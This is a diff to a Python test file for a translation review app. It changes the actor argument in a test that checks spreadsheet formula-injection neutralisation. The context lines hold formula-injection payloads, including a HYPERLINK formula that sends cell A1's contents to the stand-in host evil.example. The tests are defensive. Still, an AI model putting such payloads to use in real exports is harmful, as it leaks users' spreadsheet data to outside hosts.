@@ -13,6 +13,7 @@ from review_app.formats import Unit, read_units, write_units
 from review_app.formats.sheet import FORMULA_TRIGGERS, neutralize_cell, sheet_text, unneutralize_cell
 from review_app.review.importer import import_document
 from review_app.store import Store
+from tests.people import OP
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -75,9 +76,9 @@ def test_no_written_cell_starts_a_formula() -> None:
 def test_qa_report_tsv_is_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     db = tmp_path / "r.db"
     store = Store(str(db))
-    project = store.create_project("P", "de", "en", actor="t")
+    project = store.create_project("P", "de", "en", actor=OP)
     mt = '=HYPERLINK("http://evil.example","x")  with  double spaces.'
-    import_document(store, project.id, name="d", mt_text=mt, ref_text="A reference.", segmented=True, actor="t")
+    import_document(store, project.id, name="d", mt_text=mt, ref_text="A reference.", segmented=True, actor=OP)
     payload = store.qa_report_bytes([d.id for d in store.documents(project.id)], "tsv").decode("utf-8")
     store.close()
     rows = list(csv.DictReader(io.StringIO(payload, newline=""), delimiter="\t"))
